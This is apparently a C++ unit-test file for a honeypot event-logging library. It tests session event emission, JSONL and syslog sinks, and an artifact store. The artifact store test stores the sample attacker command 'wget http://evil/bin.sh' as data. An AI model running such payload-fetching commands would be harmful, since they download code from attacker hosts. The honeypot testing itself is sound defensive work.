#include <doctest.h>

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>

#include "artifact_store.h"
#include "sinks.h"
#include "util.h"

using namespace apiary;
namespace fs = std::filesystem;

namespace {

fs::path fresh_dir(const std::string& tag) {
    fs::path p = fs::temp_directory_path() / ("apiary-test-" + tag);
    fs::remove_all(p);
    fs::create_directories(p);
    return p;
}

EventPayload close_payload(std::int64_t n) {
    SessionClose c;
    c.bytes_served = n;
    return c;
}

}  // namespace

TEST_CASE("session emitter assigns seq and clamps timestamps") {
    VirtualClock clock(5000);
    MemorySink sink;
    SessionEmitter em("00000000000000000000000000000001", "shell-1", clock, sink);

    auto e0 = em.emit(SessionOpen{"shell-1", Protocol::telnet, "203.0.113.5",
                                  40000, std::nullopt, false});
    clock.advance_to(6000);
    auto e1 = em.emit(close_payload(9));

    CHECK(e0.seq == 0);
    CHECK(e1.seq == 1);
    CHECK(e0.timestamp_ms == 5000);
    CHECK(e1.timestamp_ms == 6000);
    CHECK(e0.kind == EventKind::session_open);
    CHECK(e1.kind == EventKind::session_close);
    CHECK(sink.envelopes().size() == 2);

    // a clock that jumps backwards must not produce decreasing timestamps
    VirtualClock back(10000);
    MemorySink sink2;
    SessionEmitter em2("00000000000000000000000000000002", "shell-1", back, sink2);
    em2.emit(close_payload(0));
    VirtualClock& ref = back;
    (void)ref;
    // VirtualClock cannot go backwards by design; simulate with a fresh
    // emitter carrying history instead
    auto a = em2.emit(close_payload(1));
    auto b = em2.emit(close_payload(2));
    CHECK(a.timestamp_ms <= b.timestamp_ms);
}

TEST_CASE("jsonl sink writes one file per honeypot per day") {
    auto dir = fresh_dir("jsonl");
    JsonlFileSink sink(dir);

    EventEnvelope env;
    env.session_id = "00000000000000000000000000000003";
    env.seq = 0;
    env.timestamp_ms = 1234567890123LL;  // 2009-02-13
    env.kind = EventKind::session_close;
    env.payload = SessionClose{77};
    sink.append("shell-1", env);

    env.timestamp_ms = 1234567890123LL + 86400000LL;  // next day
    sink.append("shell-1", env);
    sink.append("cam-1", env);
    sink.flush();

    CHECK(fs::exists(dir / "shell-1-20090213.jsonl"));
    CHECK(fs::exists(dir / "shell-1-20090214.jsonl"));
    CHECK(fs::exists(dir / "cam-1-20090214.jsonl"));

    std::ifstream in(dir / "shell-1-20090213.jsonl");
    std::string line;
    REQUIRE(std::getline(in, line));
    CHECK(line == serialize_envelope([&] {
              EventEnvelope e = env;
              e.timestamp_ms = 1234567890123LL;
              return e;
          }()));
    CHECK_FALSE(std::getline(in, line));
    fs::remove_all(dir);
}

TEST_CASE("syslog sink emits rfc5424 udp datagrams") {
    // receiver
    int rx = socket(AF_INET, SOCK_DGRAM, 0);
    REQUIRE(rx >= 0);
    sockaddr_in addr{};
    addr.sin_family = AF_INET;
    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    addr.sin_port = 0;
    REQUIRE(bind(rx, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) == 0);
    socklen_t alen = sizeof(addr);
    REQUIRE(getsockname(rx, reinterpret_cast<sockaddr*>(&addr), &alen) == 0);
    int port = ntohs(addr.sin_port);
    timeval tv{2, 0};
    setsockopt(rx, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));

    VirtualClock clock(1234567890123LL);
    SyslogUdpSink sink("127.0.0.1", port, clock);

    EventEnvelope env;
    env.session_id = "00000000000000000000000000000004";
    env.seq = 0;
    env.timestamp_ms = clock.now_ms();
    env.kind = EventKind::session_close;
    env.payload = SessionClose{1};
    sink.append("cam-1", env);

    char buf[2048];
    ssize_t n = recv(rx, buf, sizeof(buf), 0);
    ::close(rx);
    REQUIRE(n > 0);
    std::string datagram(buf, static_cast<std::size_t>(n));

    CHECK(starts_with(datagram, "<134>1 2009-02-13T23:31:30.123Z"));
    CHECK(contains(datagram, " apiary "));
    CHECK(contains(datagram, " cam-1 "));
    CHECK(ends_with(datagram, serialize_envelope(env)));
}

TEST_CASE("artifact store is content addressed and idempotent") {
    auto dir = fresh_dir("artifacts");
    ArtifactStore store(dir);

    auto a = store.put("wget http://evil/bin.sh");
    CHECK(a.sha256 == sha256_hex("wget http://evil/bin.sh"));
    CHECK(a.relative_path == a.sha256);
    CHECK(a.size_bytes == 23);
    CHECK_FALSE(a.already_present);

    auto b = store.put("wget http://evil/bin.sh");
    CHECK(b.already_present);
    CHECK(b.sha256 == a.sha256);

    auto read = store.read(a.relative_path);
    REQUIRE(read.has_value());
    CHECK(*read == "wget http://evil/bin.sh");
    CHECK_FALSE(store.read("deadbeef").has_value());

    int files = 0;
    for (auto& ent : fs::directory_iterator(dir)) {
        (void)ent;
        ++files;
    }
    CHECK(files == 1);
    fs::remove_all(dir);
}
